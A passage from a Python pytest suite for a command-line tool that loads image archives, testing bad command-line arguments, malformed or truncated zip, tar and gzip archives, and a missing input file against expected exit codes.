    ("json-validate-unknown", ["--json", "validate", "nosuch"], "", 3, ['"exit_code": 3'], True),
    ("json-usage", ["--json", "smoke", "good", "--steps", "0"], "", 2, ['"exit_code": 2'], False),
]


@pytest.mark.parametrize("case", [pytest.param(c, id=c[0])
                                  for c in CLI_CASES])
def test_bad_command_line(project, run, case):
    _, args, stdin, code, words, _needs = case
    project.add("good", GOOD)
    r = run("-C", str(project.root), *args, stdin=stdin)
    check(r, code, words)
    if "--json" in args:
        assert json.loads(r.lines[0])["exit_code"] == code


# -------------------------------------------------------------- archives ----
def _archive(kind: str, path: Path) -> None:
    if kind == "text":
        path.write_text("this is not an archive\n")
    elif kind == "empty":
        path.write_bytes(b"")
    elif kind == "random":
        path.write_bytes(os.urandom(4096))
    elif kind == "zip-empty":
        with zipfile.ZipFile(path, "w"):
            pass
    elif kind == "zip-text-member":
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("x.tar", "not a tar")
    elif kind in ("tar-truncated", "tar-no-manifest"):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as t:
            data = os.urandom(200_000)
            info = tarfile.TarInfo("blobs/sha256/" + "a" * 64)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        raw = buf.getvalue()
        path.write_bytes(raw[:70_000] if kind == "tar-truncated" else raw)
    elif kind == "gz-truncated":
        import gzip
        path.write_bytes(gzip.compress(os.urandom(100_000))[:5000])
    elif kind == "bad-sidecar":
        path.write_text("data")
        Path(str(path) + ".sha256").write_text("0" * 64 + "  x\n")


ARCHIVES = ["text", "empty", "random", "zip-empty", "zip-text-member", "tar-truncated",
            "tar-no-manifest", "gz-truncated", "bad-sidecar"]


@pytest.mark.parametrize("kind", ARCHIVES)
def test_bad_archive(run, tmp_path, monkeypatch, kind):
    class Engine:
        @classmethod
        def connect(cls, *a, **kw):
            return FakeEngine(load_error="archive/tar: invalid tar header")

    monkeypatch.setattr(cli, "Engine", Engine)
    path = tmp_path / "image.zip"
    _archive(kind, path)
    check(run("load", str(path)), 14, [str(path)])


def test_load_missing_file(run, tmp_path):
    check(run("load", str(tmp_path / "nope.zip")), 2, ["no such file"])   # a usage error


# --------------------------------------------------------------- totals ----
def test_battery_size():
    total = (len(SPEC_CASES) + len(RAW_CASES) + len(CODE_CASES) + 2 + len(CONFIG_CASES)
             + len(CLI_CASES) + len(ARCHIVES) + 1)
    assert total >= 150, total
